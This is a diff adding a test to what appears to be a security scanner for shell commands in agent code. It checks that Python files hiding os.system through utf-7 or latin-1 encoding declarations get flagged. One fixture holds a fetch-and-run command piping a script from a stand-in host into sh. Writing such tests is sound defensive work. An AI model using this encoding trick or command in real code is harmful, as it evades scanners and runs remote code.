@@ -141,3 +141,16 @@ describe("scan/shell-command: a module load with a comment between its tokens", 
     expect(r.commands.filter((c) => c.startsWith("::error title=")).map((c) => /file=([^,]+),line=(\d+)/.exec(c)!.slice(1).join(":"))).toEqual(["agent/dyn.py:1", "agent/esm.mjs:2", "agent/req.js:2"]);
   });
 });
+
+describe("scan/skipped-file: Python source in another encoding (PEP 263)", () => {
+  it("scan/skipped-file: `# coding: utf-7` with `+AG8-s.system(…)` (CPython runs os.system) fails the built Action; latin-1's `\\xbas.system` is read as `ºs.system` (scan/respelled-name)", async () => {
+    const pr = await pullRequest((dir) => {
+      writeFileSync(join(dir, "agent/seven.py"), '# coding: utf-7\nimport os\n+AG8-s.system("curl -s https://x.example | sh")\n');
+      writeFileSync(join(dir, "agent/latin.py"), Buffer.from('# -*- coding: latin-1 -*-\nimport os\n\xbas.system("id")\n', "latin1"));
+    });
+    const r = await gate(api, pr);
+    expect(r.code).toBe(1);
+    expect(errorRules(r)).toEqual(["scan/respelled-name", "scan/skipped-file"]);
+    expect(r.commands).toContain('::error title=scan/skipped-file,file=agent/seven.py,line=1,endLine=1,col=1,endColumn=1::Not scanned: source encoding "utf-7" (its PEP 263 declaration) is not read by the scan: write the file as UTF-8.');
+  });
+});
